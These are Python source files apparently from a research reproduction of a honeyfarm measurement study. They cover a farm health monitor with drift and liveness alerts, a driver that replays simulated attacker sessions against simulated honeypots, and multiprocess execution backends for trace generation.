    #: Reservoir cap for the interval histograms kept in the registry.
    histogram_cap: int = 4096
    #: Keep at most this many alerts (oldest dropped first).
    max_alerts: int = 1000


@dataclass
class Alert:
    """One operational alert raised by the monitor."""

    kind: str  # fresh-hash | liveness-down | liveness-recovered | rate-drift | mix-drift
    time: float
    honeypot_id: Optional[str]
    message: str
    data: Dict[str, Any] = field(default_factory=dict)

    def render(self) -> str:
        where = f" {self.honeypot_id}" if self.honeypot_id else ""
        return f"[t={self.time:9.1f}s] {self.kind.upper():<18}{where} {self.message}"


@dataclass
class PotHealth:
    """Running per-honeypot state."""

    honeypot_id: str
    sessions: int = 0
    live: int = 0
    commands: int = 0
    hashes: int = 0
    logins: int = 0
    last_seen: float = float("-inf")
    up: bool = True

    def status(self, now: float, timeout: float) -> str:
        if not self.up:
            return "DOWN"
        if self.last_seen == float("-inf"):
            return "SILENT"
        if now - self.last_seen > timeout / 2:
            return "QUIET"
        return "OK"


class _Ewma:
    """EWMA mean/variance with z-scoring (exponentially weighted moments)."""

    __slots__ = ("alpha", "mean", "var", "n")

    def __init__(self, alpha: float):
        self.alpha = alpha
        self.mean = 0.0
        self.var = 0.0
        self.n = 0

    def zscore(self, x: float, var_floor: float = 0.0) -> Optional[float]:
        """z of ``x`` against the current baseline (None while undefined).

        ``var_floor`` bounds the variance from below: share baselines use
        it so a category that was *never* seen (zero mean, zero variance)
        still alarms loudly when it suddenly appears.
        """
        if self.n == 0:
            return None
        var = max(self.var, var_floor)
        if var <= 1e-12:
            return None
        return (x - self.mean) / math.sqrt(var)

    def update(self, x: float) -> None:
        if self.n == 0:
            self.mean = x
        else:
            delta = x - self.mean
            self.mean += self.alpha * delta
            self.var = (1 - self.alpha) * (self.var + self.alpha * delta * delta)
        self.n += 1


@dataclass
class _SessionScratch:
    """Per-open-session state needed to categorise it at close time."""

    honeypot_id: str
    client_ip: int = 0
    attempted: bool = False
    success: bool = False
    commands: int = 0
    uris: int = 0

    def category(self) -> str:
        if not self.attempted:
            return "NO_CRED"
        if not self.success:
            return "FAIL_LOG"
        if not self.commands:
            return "NO_CMD"
        return "CMD_URI" if self.uris else "CMD"


class FarmHealthMonitor:
    """Consumes the live event stream and maintains farm health state.

    Feed it either :class:`HoneypotEvent` objects (attach :meth:`on_event`
    as a honeypot/farm event sink) or flight-recorder event dicts
    (:meth:`feed`, e.g. from a tailed ``--trace`` JSONL).  Time advances
    with the events' simulation stamps; call :meth:`advance` explicitly to
    run liveness checks past the last event.
    """

    def __init__(
        self,
        config: Optional[HealthConfig] = None,
        known_hashes: Optional[Iterable[str]] = None,
        intel=None,
    ):
        self.config = config or HealthConfig()
        self.intel = intel
        self.pots: Dict[str, PotHealth] = {}
        self.alerts: List[Alert] = []
        self.notices: List[FreshHashNotice] = []
        self.known_hashes = set(known_hashes or ())
        self.now = float("-inf")
        self.events_seen = 0
        self.sessions_seen = 0
        self._sessions: Dict[str, _SessionScratch] = {}
        self._t0: Optional[float] = None  # first stamped event (liveness ref)
        self._interval_start: Optional[float] = None
        self._interval_sessions = 0
        self._interval_mix = {cat: 0 for cat in CATEGORIES}
        self._rate = _Ewma(self.config.ewma_alpha)
        self._mix = {cat: _Ewma(self.config.ewma_alpha) for cat in CATEGORIES}
        self._intervals_closed = 0

    # -- wiring ---------------------------------------------------------------

    def watch(self, honeypot_ids: Iterable[str]) -> None:
        """Register pots up front, so never-seen pots still go DOWN."""
        for pot_id in honeypot_ids:
            self.pots.setdefault(pot_id, PotHealth(pot_id))

    def _pot(self, honeypot_id: str) -> PotHealth:
        pot = self.pots.get(honeypot_id)
        if pot is None:
            pot = self.pots[honeypot_id] = PotHealth(honeypot_id)
        return pot

    # -- event intake ---------------------------------------------------------

    def on_event(self, event: HoneypotEvent) -> None:
        """Honeypot event-sink entry (the live farm wiring)."""
        self._consume(event.event_type.value, event.timestamp,
                      event.honeypot_id, event.session_id, event.data)

    def feed(self, event: Dict[str, Any]) -> None:
        """One flight-recorder event dict (tailed JSONL or Tracer buffer)."""
        data = event.get("data") or {}
        kind = event.get("kind", "")
        ts = event.get("ts")
        if kind == "generator.block":
            self._consume_block(ts, data)
            return
        sensor = data.get("sensor", "")
        session = data.get("session", "")
        if ts is not None:
            self._consume(kind, float(ts), sensor, session, data)

    def feed_many(self, events: Iterable[Dict[str, Any]]) -> int:
        count = 0
        for event in events:
            self.feed(event)
            count += 1
        return count

    # -- consumption ----------------------------------------------------------

    def _consume(self, kind: str, ts: float, sensor: str,
                 session: str, data: Dict[str, Any]) -> None:
        self.events_seen += 1
        if sensor:
            pot = self._pot(sensor)
            pot.last_seen = max(pot.last_seen, ts)
            if not pot.up:
                pot.up = True
                self._alert("liveness-recovered", ts, sensor,
                            "reporting again")
        else:
            pot = None

        if kind == "honeypot.session.connect":
            self.sessions_seen += 1
            self._interval_sessions += 1
            if pot is not None:
                pot.sessions += 1
                pot.live += 1
            if session:
                self._sessions[session] = _SessionScratch(
                    honeypot_id=sensor,
                    client_ip=int(data.get("src_ip", 0)),
                )
        elif kind in ("honeypot.login.success", "honeypot.login.failed"):
            scratch = self._sessions.get(session)
            if scratch is not None:
                scratch.attempted = True
                if kind == "honeypot.login.success":
                    scratch.success = True
            if pot is not None and kind == "honeypot.login.success":
                pot.logins += 1
        elif kind == "honeypot.command.input":
            scratch = self._sessions.get(session)
            if scratch is not None:
                scratch.commands += 1
            if pot is not None:
                pot.commands += 1
        elif kind == "honeypot.session.file_download":
            scratch = self._sessions.get(session)
            if scratch is not None:
                scratch.uris += 1
            sha = data.get("shasum")
            if sha:
                self._fresh_hash(sha, ts, sensor, session,
                                 uri=data.get("url", ""))
        elif kind in ("honeypot.session.file_created",
                      "honeypot.session.file_modified"):
            sha = data.get("shasum")
            if sha:
                self._fresh_hash(sha, ts, sensor, session)
        elif kind == "honeypot.session.closed":
            scratch = self._sessions.pop(session, None)
            if pot is not None:
                pot.live = max(0, pot.live - 1)
            if scratch is not None:
                self._interval_mix[scratch.category()] += 1
        self._advance_to(ts)

    def _consume_block(self, ts: Optional[float], data: Dict[str, Any]) -> None:
        """A bulk-path block event: rate/mix counts without pot attribution."""
        self.events_seen += 1
        sessions = int(data.get("sessions", 0))
        self.sessions_seen += sessions
        self._interval_sessions += sessions
        category = _BLOCK_CATEGORY.get(str(data.get("category", "")))
        if category is None and data.get("campaign"):
            category = str(data.get("session_kind", "CMD"))
        if category in self._interval_mix:
            self._interval_mix[category] += sessions
        if ts is not None:
            self._advance_to(float(ts))

    # -- hashes ---------------------------------------------------------------

    def _fresh_hash(self, sha: str, ts: float, sensor: str,
                    session: str, uri: str = "") -> None:
        pot = self.pots.get(sensor)
        if pot is not None:
            pot.hashes += 1
        if sha in self.known_hashes:
            return
        self.known_hashes.add(sha)
        scratch = self._sessions.get(session)
        tag = "unknown"
        if self.intel is not None:
            # The monitor accepts any duck-typed intel source; a missing
            # tag_of / value attribute or absent entry means "unknown",
            # anything else is a real bug and must surface.
            try:
                tag = self.intel.tag_of(sha).value
            except (AttributeError, KeyError):
                tag = "unknown"
        notice = FreshHashNotice(
            sha256=sha,
            first_seen=ts,
            honeypot_id=sensor,
            client_ip=scratch.client_ip if scratch else 0,
            session_id=session,
            uri=uri,
            tag=tag,
        )
        self.notices.append(notice)
        self._alert("fresh-hash", ts, sensor,
                    f"sha256={sha[:16]}… first sighting farm-wide",
                    sha256=sha, uri=uri, tag=tag)

    # -- time / drift ---------------------------------------------------------

    def advance(self, now: float) -> None:
        """Advance the monitor clock: close intervals, check liveness."""
        self._advance_to(now)
        self._check_liveness(max(self.now, now))

    def _advance_to(self, now: float) -> None:
        if now <= self.now and self._interval_start is not None:
            return
        self.now = max(self.now, now)
        cfg = self.config
        if self._interval_start is None:
            # Anchor intervals (and the liveness reference for watched
            # pots that never report) at the first stamped event.
            self._interval_start = now
            self._t0 = now
            return
        # Liveness is re-checked at interval closes (and explicit advance()
        # calls), keeping the per-event cost O(1) rather than O(pots).
        while now >= self._interval_start + cfg.interval:
            self._close_interval(self._interval_start + cfg.interval)

    def _close_interval(self, end: float) -> None:
        cfg = self.config
        x = float(self._interval_sessions)
        metrics = get_metrics()
        metrics.histogram("farm.sessions_per_interval",
                          cap=cfg.histogram_cap).observe(x)
        warm = self._intervals_closed >= cfg.warmup_intervals
        z = self._rate.zscore(x)
        if warm and z is not None and abs(z) > cfg.z_threshold:
            self._alert(
                "rate-drift", end, None,
                f"{int(x)} sessions/interval vs baseline "
                f"{self._rate.mean:.1f} (z={z:+.1f})",
                z=z, sessions=x, baseline=self._rate.mean,
            )
        self._rate.update(x)
        total = sum(self._interval_mix.values())
        if total > 0:
            for cat in CATEGORIES:
                share = self._interval_mix[cat] / total
                baseline = self._mix[cat]
                # Shares live in [0, 1]; the 1e-4 floor (a 1% std) keeps
                # a flat-zero baseline alarmable.
                z = baseline.zscore(share, var_floor=1e-4)
                if warm and z is not None and abs(z) > cfg.z_threshold:
                    self._alert(
                        "mix-drift", end, None,
                        f"{cat} share {share:.1%} vs baseline "
                        f"{baseline.mean:.1%} (z={z:+.1f})",
                        category=cat, z=z, share=share,
                        baseline=baseline.mean,
                    )
                baseline.update(share)
                metrics.histogram(f"farm.mix.{cat}",
                                  cap=cfg.histogram_cap).observe(share)
        self._interval_sessions = 0
        self._interval_mix = {cat: 0 for cat in CATEGORIES}
        self._interval_start = end
        self._intervals_closed += 1
        self._check_liveness(end)

    def _check_liveness(self, now: float) -> None:
        timeout = self.config.liveness_timeout
        for pot in self.pots.values():
            if not pot.up:
                continue
            # A watched pot that never reported counts from the first
            # event the monitor saw at all.
            reference = (pot.last_seen if pot.last_seen != float("-inf")
                         else self._t0)
            if reference is not None and now - reference > timeout:
                pot.up = False
                self._alert(
                    "liveness-down", now, pot.honeypot_id,
                    f"silent for {now - reference:.0f}s "
                    f"(> {timeout:.0f}s)",
                    silent_for=now - reference,
                )

    def _alert(self, kind: str, ts: float, honeypot_id: Optional[str],
               message: str, **data: Any) -> None:
        self.alerts.append(Alert(kind, ts, honeypot_id, message, data))
        if len(self.alerts) > self.config.max_alerts:
            del self.alerts[: len(self.alerts) - self.config.max_alerts]
        get_metrics().inc(f"farm.alerts.{kind}")
        ledger = get_ledger()
        if ledger is not None:
            ledger.record_alert(kind, message, time=ts,
                                honeypot_id=honeypot_id, **data)

    # -- reporting ------------------------------------------------------------

    def pots_down(self) -> List[str]:
        return sorted(p.honeypot_id for p in self.pots.values() if not p.up)

    def render_table(self, max_pots: int = 30, tail_alerts: int = 12) -> str:
        """The operator's per-pot health table plus the recent alert tail."""
        cfg = self.config
        now = self.now if self.now != float("-inf") else 0.0
        lines = [
            f"== farm health @ t={now:.1f}s — "
            f"{len(self.pots)} pots, {self.sessions_seen:,} sessions, "
            f"{len(self.notices)} fresh hashes, "
            f"{len(self.alerts)} alerts ==",
            f"{'honeypot':<14} {'st':<6} {'sess':>6} {'live':>5} "
            f"{'cmds':>6} {'hashes':>6} {'last seen':>12}",
        ]
        pots = sorted(self.pots.values(), key=lambda p: p.honeypot_id)
        hidden = 0
        if len(pots) > max_pots:
            # Keep the interesting rows: anything not plain OK, then busiest.
            flagged = [p for p in pots
                       if p.status(now, cfg.liveness_timeout) != "OK"]
            busiest = sorted(pots, key=lambda p: -p.sessions)
            keep = {id(p) for p in flagged}
            for p in busiest:
                if len(keep) >= max_pots:
                    break
                keep.add(id(p))
            hidden = len(pots) - len(keep)
            pots = [p for p in pots if id(p) in keep]
        for pot in pots:
            seen = ("never" if pot.last_seen == float("-inf")
                    else f"{now - pot.last_seen:.0f}s ago")
            lines.append(
                f"{pot.honeypot_id:<14} "
                f"{pot.status(now, cfg.liveness_timeout):<6} "
                f"{pot.sessions:>6} {pot.live:>5} {pot.commands:>6} "
                f"{pot.hashes:>6} {seen:>12}"
            )
        if hidden:
            lines.append(f"... and {hidden} more pots")
        if self.alerts:
            lines.append("-- alerts (most recent last) --")
            for alert in self.alerts[-tail_alerts:]:
                lines.append(alert.render())
        return "\n".join(lines)
