"""The honeyfarm: deployment plan and central collection.

A honeyfarm is a set of honeypots deployed across many networks with
centralised data collection.  `deployment` builds the studied farm's layout
(221 identically configured honeypots in 55 countries and 65 ASes, focused
on residential networks); `collector` is the central sink turning session
summaries into stored records.
"""

from repro.farm.deployment import DeploymentPlan, HoneypotSite, build_default_deployment
from repro.farm.collector import FarmCollector
from repro.farm.health import Alert, FarmHealthMonitor, HealthConfig, PotHealth

__all__ = [
    "DeploymentPlan",
    "HoneypotSite",
    "build_default_deployment",
    "FarmCollector",
    "Alert",
    "FarmHealthMonitor",
    "HealthConfig",
    "PotHealth",
]
