"""Live farm driver: attacker behaviours against real honeypot sessions.

The trace generator (``repro.workload``) stamps records in bulk; this
module is the *interactive* counterpart — a small orchestration layer that
connects behaviour-scripted attackers to real honeypot state machines
through the discrete-event engine.  Used by tests, examples and anyone who
wants to watch individual sessions unfold rather than analyse millions.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Sequence, Tuple

from repro.agents.credentials import CredentialDictionary
from repro.farm.collector import FarmCollector
from repro.farm.deployment import DeploymentPlan, build_default_deployment
from repro.geo.registry import GeoRegistry
from repro.honeypot.honeypot import Honeypot
from repro.net.tcp import SSH_PORT, TELNET_PORT, TcpModel
from repro.simulation.engine import SimulationEngine
from repro.simulation.rng import RngStream
from repro.store.store import SessionStore


@dataclass
class ScanBehavior:
    """Connect, never log in, leave (NO_CRED)."""

    port: int = SSH_PORT
    linger: Tuple[float, float] = (1.0, 20.0)


@dataclass
class ScoutBehavior:
    """Try a few failing credentials (FAIL_LOG)."""

    attempts: int = 3
    inter_attempt: Tuple[float, float] = (1.0, 4.0)


@dataclass
class IntrusionBehavior:
    """Log in and run a script (NO_CMD / CMD / CMD+URI)."""

    lines: Sequence[str] = ()
    failures_before_success: int = 1
    think_time: Tuple[float, float] = (1.5, 4.0)
    password: Optional[str] = None  # None = sample from the dictionary


Behavior = object  # union of the three dataclasses above


class LiveFarm:
    """A deployment with live honeypots, a collector, and an event loop."""

    def __init__(
        self,
        plan: Optional[DeploymentPlan] = None,
        registry: Optional[GeoRegistry] = None,
        seed: int = 1,
        n_honeypots: Optional[int] = None,
        event_tap=None,
    ):
        self.registry = registry or GeoRegistry()
        self.plan = plan or build_default_deployment(registry=self.registry)
        self.collector = FarmCollector(registry=self.registry)
        self.event_tap = event_tap

        def event_sink(event):
            self.collector.on_event(event)
            if self.event_tap is not None:
                self.event_tap(event)

        honeypots = self.plan.build_honeypots(
            event_sink=event_sink,
            summary_sink=self.collector.on_summary,
        )
        self.honeypots: List[Honeypot] = (
            honeypots[:n_honeypots] if n_honeypots else honeypots
        )
        self.engine = SimulationEngine()
        self.rng = RngStream(seed, "livefarm")
        self.credentials = CredentialDictionary(self.rng.child("creds"))
        self.tcp = TcpModel(self.rng.child("tcp"), loss_probability=0.0)
        self.launched = 0

    # -- scheduling attacks ---------------------------------------------------

    def launch(
        self,
        client_ip: int,
        honeypot_index: int,
        behavior: Behavior,
        at: float,
    ) -> None:
        """Schedule one attacker session starting at virtual second ``at``."""
        honeypot = self.honeypots[honeypot_index % len(self.honeypots)]
        self.launched += 1

        if isinstance(behavior, ScanBehavior):
            self.engine.schedule_at(
                at, lambda: self._run_scan(client_ip, honeypot, behavior)
            )
        elif isinstance(behavior, ScoutBehavior):
            self.engine.schedule_at(
                at, lambda: self._run_scout(client_ip, honeypot, behavior)
            )
        elif isinstance(behavior, IntrusionBehavior):
            self.engine.schedule_at(
                at, lambda: self._run_intrusion(client_ip, honeypot, behavior)
            )
        else:
            raise TypeError(f"unknown behavior {behavior!r}")

    def _now(self) -> float:
        return self.engine.clock.seconds

    def _run_scan(self, client_ip: int, honeypot: Honeypot,
                  behavior: ScanBehavior) -> None:
        handshake = self.tcp.handshake()
        session = honeypot.accept(
            client_ip, 40000 + self.launched, behavior.port,
            self._now() + handshake.elapsed,
        )
        linger = self.rng.uniform(*behavior.linger)
        self.engine.schedule(linger, lambda: (
            session.client_disconnect(self._now())
            if not session.is_closed else None
        ))

    def _run_scout(self, client_ip: int, honeypot: Honeypot,
                   behavior: ScoutBehavior) -> None:
        session = honeypot.accept(
            client_ip, 41000 + self.launched, SSH_PORT, self._now()
        )
        delay = self.rng.uniform(*behavior.inter_attempt)
        attempts = self.credentials.attempt_sequence(
            behavior.attempts, end_success=False
        )
        for username, password in attempts:
            self.engine.schedule(delay, lambda u=username, p=password: (
                session.try_login(u, p, self._now())
                if not session.is_closed else None
            ))
            delay += self.rng.uniform(*behavior.inter_attempt)
        self.engine.schedule(delay + 1.0, lambda: (
            session.client_disconnect(self._now())
            if not session.is_closed else None
        ))

    def _run_intrusion(self, client_ip: int, honeypot: Honeypot,
                       behavior: IntrusionBehavior) -> None:
        session = honeypot.accept(
            client_ip, 42000 + self.launched, SSH_PORT, self._now()
        )
        delay = 1.0
        for username, password in self.credentials.attempt_sequence(
            behavior.failures_before_success, end_success=False
        ):
            self.engine.schedule(delay, lambda u=username, p=password: (
                session.try_login(u, p, self._now())
                if not session.is_closed else None
            ))
            delay += self.rng.uniform(*behavior.think_time)
        password = behavior.password or self.credentials.successful_password()
        self.engine.schedule(delay, lambda p=password: (
            session.try_login("root", p, self._now())
            if not session.is_closed else None
        ))
        delay += self.rng.uniform(*behavior.think_time)
        for line in behavior.lines:
            self.engine.schedule(delay, lambda l=line: (
                session.input_line(l, self._now())
                if not session.is_closed else None
            ))
            delay += self.rng.uniform(*behavior.think_time)
        self.engine.schedule(delay + 1.0, lambda: (
            session.client_disconnect(self._now())
            if not session.is_closed else None
        ))

    # -- running ------------------------------------------------------------------

    def run(self, until: Optional[float] = None) -> int:
        """Run the event loop; returns the number of events processed."""
        return self.engine.run(until=until)

    def harvest(self, reap_at: Optional[float] = None) -> SessionStore:
        """Time out stragglers and freeze the collected store."""
        reap_time = reap_at if reap_at is not None else (
            self.engine.clock.seconds + 10_000.0
        )
        for honeypot in self.honeypots:
            honeypot.reap(reap_time)
        return self.collector.build_store()
