"""Execution backends: where a :class:`~repro.sched.trace.ShardTask` runs.

Three conformance-tested implementations of one contract:

* :class:`InlineBackend` — in-process, synchronous.  The debugging and
  golden path: every other backend must produce byte-identical stores.
* :class:`PoolBackend` — a self-healing multiprocess pool.  Workers are
  long-lived processes fed from a task queue; the pool grows and shrinks
  on :meth:`Backend.resize`, detects worker death, and resubmission is
  the scheduler's call (the dead worker's task comes back as an error
  outcome).
* :class:`QueueBackend` — a file-queue multi-node stub: tasks serialise
  to a spool directory, a node loop (:mod:`repro.sched.node`) claims and
  runs them, and result bundles (npz store + JSON metrics/trace) merge
  back.  This is the seam for real scale-out — point N machines at the
  same spool and delete the in-process service call.

The contract is deliberately narrow — ``open`` / ``submit`` / ``collect``
/ ``resize`` / ``close`` — so the :class:`~repro.sched.scheduler.Scheduler`
owns every policy decision (elasticity, retry, stragglers) and backends
own only execution.  All timing uses :func:`repro.obs.stopwatch`; backends
never read the clock directly.
"""

from __future__ import annotations

import json
import multiprocessing
import os
import queue
import shutil
import tempfile
from abc import ABC, abstractmethod
from collections import OrderedDict, deque
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Dict, List, Optional, Tuple

from repro.obs import stopwatch
from repro.obs.resources import ResourceSampler, worker_heartbeat
from repro.sched.trace import ShardTask

#: Env var naming a task index whose first execution attempt must crash
#: the worker (fault injection for the retry-path tests).  The companion
#: ``REPRO_SCHED_FAIL_ONCE_DIR`` names a directory of per-index marker
#: files so the crash happens exactly once.
FAIL_TASK_ENV = "REPRO_SCHED_FAIL_TASK"
FAIL_ONCE_DIR_ENV = "REPRO_SCHED_FAIL_ONCE_DIR"


@dataclass
class TaskOutcome:
    """What came back for one task attempt.

    Either a payload (``store`` + worker-side ``metrics``/``events``) or
    an ``error`` string — never both.  ``run_seconds`` is the worker-side
    execution wall; the scheduler derives queueing from it.
    ``telemetry`` is the worker's per-task resource sample
    (:class:`repro.obs.resources.ResourceSampler` dict form) — physical
    accounting only, never part of the output contract.
    """

    task: ShardTask
    attempt: int
    worker: str
    store: Any = None
    metrics: Optional[Dict] = None
    events: Optional[List[Dict]] = None
    run_seconds: float = 0.0
    error: Optional[str] = None
    telemetry: Optional[Dict] = None

    @property
    def ok(self) -> bool:
        return self.error is None


class BackendError(RuntimeError):
    """A backend broke its contract (not a task failure — those are

    :class:`TaskOutcome` errors the scheduler can retry)."""


class Backend(ABC):
    """The execution contract the scheduler drives.

    Lifecycle: ``open`` once, then interleaved ``submit``/``collect``
    (and optional ``resize``), then ``close``.  ``collect`` returns every
    finished outcome it can without blocking longer than ``timeout``
    seconds; a backend with nothing in flight returns immediately.
    """

    #: Human name, also the CLI spelling (``--backend pool``).
    name: str = "?"
    #: Whether :meth:`resize` can actually change capacity.
    elastic: bool = False

    @abstractmethod
    def open(self, config, want_trace: bool) -> None:
        """Bind the backend to a scenario config before any submit."""

    @abstractmethod
    def submit(self, task: ShardTask, attempt: int = 1) -> None:
        """Enqueue one task attempt (non-blocking)."""

    @abstractmethod
    def collect(self, timeout: float = 0.25) -> List[TaskOutcome]:
        """Finished outcomes, blocking at most ``timeout`` s for the first."""

    def resize(self, workers: int) -> int:
        """Request a capacity change; returns the size actually in effect."""
        return self.workers

    def heartbeats(self) -> List[Dict]:
        """Worker heartbeat payloads observed since the last call.

        Payloads follow :func:`repro.obs.resources.worker_heartbeat`;
        ``beat`` is per-worker monotonic, so consumers dedupe on it and
        a backend may return the same beat twice without harm.  The
        default (no liveness channel) reports nothing.
        """
        return []

    @property
    def workers(self) -> int:
        """Current execution slots (1 for inline)."""
        return 1

    @abstractmethod
    def close(self) -> None:
        """Release processes/files.  Idempotent."""

    def __enter__(self) -> "Backend":
        return self

    def __exit__(self, *exc) -> None:
        self.close()


def _emit_task(config, index: int, want_trace: bool):
    """Run one shard task in this process via the shard kernel."""
    from repro.workload.shards import _emit_indexed

    return _emit_indexed((config, index, want_trace))


def _run_task(config, index: int, want_trace: bool):
    """One shard task under a resource sampler: (store, metrics, events,
    telemetry).  The shared executor body of all three backends."""
    with ResourceSampler() as sampler:
        store, metrics, events = _emit_task(config, index, want_trace)
    return store, metrics, events, sampler.to_dict()


def _maybe_fail_once(index: int) -> None:
    """Fault injection: crash this process once for the configured task."""
    target = os.environ.get(FAIL_TASK_ENV)
    if target is None or int(target) != index:
        return
    marker_dir = os.environ.get(FAIL_ONCE_DIR_ENV)
    if not marker_dir:
        return
    marker = Path(marker_dir) / f"failed-{index}"
    if marker.exists():
        return
    marker.touch()
    os._exit(17)


# -- inline --------------------------------------------------------------------


class InlineBackend(Backend):
    """Synchronous in-process execution — the golden path.

    ``collect`` runs exactly one pending task per call, so the scheduler
    loop observes the same submit/collect cadence it would against an
    asynchronous backend.
    """

    name = "inline"

    def __init__(self) -> None:
        self._pending: List[Tuple[ShardTask, int]] = []
        self._config = None
        self._want_trace = False
        self._done = 0
        self._sessions_done = 0
        self._last_index: Optional[int] = None
        self._reported_beat = 0

    def open(self, config, want_trace: bool) -> None:
        self._config = config
        self._want_trace = want_trace

    def submit(self, task: ShardTask, attempt: int = 1) -> None:
        self._pending.append((task, attempt))

    def collect(self, timeout: float = 0.25) -> List[TaskOutcome]:
        if not self._pending:
            return []
        task, attempt = self._pending.pop(0)
        watch = stopwatch()
        store, metrics, events, telemetry = _run_task(
            self._config, task.index, self._want_trace
        )
        self._done += 1
        self._sessions_done += len(store)
        self._last_index = task.index
        return [TaskOutcome(
            task=task, attempt=attempt, worker="inline", store=store,
            metrics=metrics, events=events, run_seconds=watch.elapsed(),
            telemetry=telemetry,
        )]

    def heartbeats(self) -> List[Dict]:
        # Synchronous, so "liveness" degenerates to one beat per batch of
        # completed tasks — but the scheduler and dashboard see the same
        # protocol every backend speaks.
        if self._done == self._reported_beat:
            return []
        self._reported_beat = self._done
        return [worker_heartbeat(
            "inline", beat=self._done, state="idle",
            last_index=self._last_index, tasks_done=self._done,
            sessions_done=self._sessions_done,
        )]

    def close(self) -> None:
        self._pending.clear()


# -- multiprocess pool ---------------------------------------------------------


#: Tasks per pipe message and results per flush.  A worker holds at most
#: one message's tasks in memory, so half of a full dispatch depth stays
#: recoverable from the pipe if it dies; flushing every ``_BATCH``
#: results lets the parent refill while the worker chews the rest.
_BATCH = 4


def _pool_worker_main(worker_id, config, want_trace, task_queue,
                      result_queue) -> None:
    """Worker loop: pull task indexes off a private queue, emit shards,
    ship result batches back on the shared (buffered) result queue.

    Messages are ``("batch", worker_id, [outcome, ...])``, a final
    ``("exit", worker_id, [outcome, ...])`` acknowledging the
    shrink/close sentinel, and ``("heartbeat", worker_id, payload)``
    liveness beats sent on each task pickup — the existing result pipe
    doubles as the liveness channel, so a stuck worker is one the parent
    stops hearing from, with its last-known task on record.  Each
    outcome in a batch is ``("done", index, attempt, payload)`` or
    ``("error", index, attempt, message)``; a done payload is ``(store,
    metrics, events, run_seconds, telemetry)`` with the telemetry dict
    sampled by :class:`repro.obs.resources.ResourceSampler`.
    Results buffer locally while more tasks wait in the private queue and
    flush the moment the worker would otherwise idle — so message count
    scales with scheduling round-trips, not task count, and ``put`` hands
    off to a feeder thread (the worker never blocks on the parent
    draining the pipe).  Task accounting lives entirely in the parent (it
    knows what it dispatched to whom), so no per-task "start" message is
    needed.
    """
    out: list = []
    local: deque = deque()
    beat = 0
    done = 0
    sessions_done = 0
    while True:
        if not local:
            item = task_queue.get()
            if item is None:
                result_queue.put(("exit", worker_id, out))
                return
            local.extend(item)
            continue
        index, attempt = local.popleft()
        beat += 1
        result_queue.put(("heartbeat", worker_id, worker_heartbeat(
            f"pool-{worker_id}", beat=beat, state="run", last_index=index,
            tasks_done=done, sessions_done=sessions_done,
        )))
        _maybe_fail_once(index)
        watch = stopwatch()
        try:
            store, metrics, events, telemetry = _run_task(
                config, index, want_trace
            )
        except Exception as exc:  # ships back as a retryable task error
            out.append(("error", index, attempt,
                        f"{type(exc).__name__}: {exc}"))
        else:
            done += 1
            sessions_done += len(store)
            out.append(("done", index, attempt,
                        (store, metrics, events, watch.elapsed(),
                         telemetry)))
        if (not local and task_queue.empty()) or len(out) >= _BATCH:
            result_queue.put(("batch", worker_id, out))
            out = []


@dataclass
class _Worker:
    """Parent-side view of one pool process."""

    proc: multiprocessing.Process
    task_queue: Any                     # private SimpleQueue, parent -> worker
    assigned: "OrderedDict[int, int]"   # index -> attempt, dispatch order
    retiring: bool = False


class PoolBackend(Backend):
    """A self-healing elastic pool of worker processes.

    Workers inherit the parent's shard plan copy-on-write under the fork
    start method (spawn-started workers rebuild it, identically, on their
    first task).  Each worker owns a private task pipe and the parent
    dispatches least-loaded up to :attr:`depth` tasks ahead, so the
    parent always knows exactly which tasks a worker holds.  A worker
    that dies is detected by liveness polling: tasks still sitting
    unread in its pipe are silently recovered and re-dispatched (they
    never started), the task it was actually executing comes back as an
    error outcome (the scheduler decides on retry), and a replacement
    worker is spawned so capacity holds.
    """

    name = "pool"
    elastic = True

    #: Tasks dispatched ahead to one worker, in pipe messages of at most
    #: ``_BATCH``.  Deep enough that a worker flushing results mid-batch
    #: keeps computing while the parent refills — it never waits on a
    #: parent round-trip for its next task.  Tasks still unread in the
    #: pipe are recoverable if the worker dies; only what it had already
    #: picked up (at most ``_BATCH`` plus unflushed results) is lost.
    depth = 8

    def __init__(self, workers: int = 1, start_method: Optional[str] = None):
        self._target = max(1, int(workers))
        self._start_method = start_method
        self._workers: Dict[int, _Worker] = {}
        self._backlog: deque = deque()  # (index, attempt) not yet dispatched
        self._tasks: Dict[int, ShardTask] = {}
        self._next_worker_id = 0
        self._ctx = None
        self._results = None
        self._config = None
        self._want_trace = False
        self._heartbeats: List[Dict] = []
        self.deaths = 0

    def _context(self):
        if self._ctx is None:
            method = self._start_method
            if method is None:
                try:
                    multiprocessing.get_context("fork")
                    method = "fork"
                except ValueError:
                    method = "spawn"
            self._ctx = multiprocessing.get_context(method)
        return self._ctx

    def open(self, config, want_trace: bool) -> None:
        self._config = config
        self._want_trace = want_trace
        self._results = self._context().Queue()
        for _ in range(self._target):
            self._spawn()

    def _spawn(self) -> None:
        worker_id = self._next_worker_id
        self._next_worker_id += 1
        ctx = self._context()
        task_queue = ctx.SimpleQueue()
        proc = ctx.Process(
            target=_pool_worker_main,
            args=(worker_id, self._config, self._want_trace,
                  task_queue, self._results),
            daemon=True,
        )
        proc.start()
        self._workers[worker_id] = _Worker(
            proc=proc, task_queue=task_queue, assigned=OrderedDict()
        )

    @property
    def workers(self) -> int:
        return sum(1 for w in self._workers.values() if not w.retiring)

    def submit(self, task: ShardTask, attempt: int = 1) -> None:
        if self._results is None:
            raise BackendError("submit before open()")
        self._tasks[task.index] = task
        self._backlog.append((task.index, attempt))

    def _dispatch(self) -> None:
        """Feed backlog to live workers, least-loaded first, ``depth`` deep.

        Submissions accumulate in the backlog and ship here in pipe
        messages of at most ``_BATCH`` tasks per worker, so IPC scales
        with scheduling rounds rather than tasks.
        """
        sends: Dict[int, List[Tuple[int, int]]] = {}
        while self._backlog:
            eligible = [
                (len(w.assigned), wid) for wid, w in self._workers.items()
                if not w.retiring and len(w.assigned) < self.depth
            ]
            if not eligible:
                break
            _, worker_id = min(eligible)
            index, attempt = self._backlog.popleft()
            self._workers[worker_id].assigned[index] = attempt
            sends.setdefault(worker_id, []).append((index, attempt))
        for worker_id in sorted(sends):
            batch = sends[worker_id]
            q = self._workers[worker_id].task_queue
            for lo in range(0, len(batch), _BATCH):
                q.put(batch[lo:lo + _BATCH])

    def resize(self, workers: int) -> int:
        workers = max(1, int(workers))
        while self.workers < workers:
            self._spawn()
        for _ in range(self.workers - workers):
            # Shrink cooperatively: the chosen worker drains what it
            # already holds, takes the sentinel, and exits.
            idle_first = min(
                (len(w.assigned), wid)
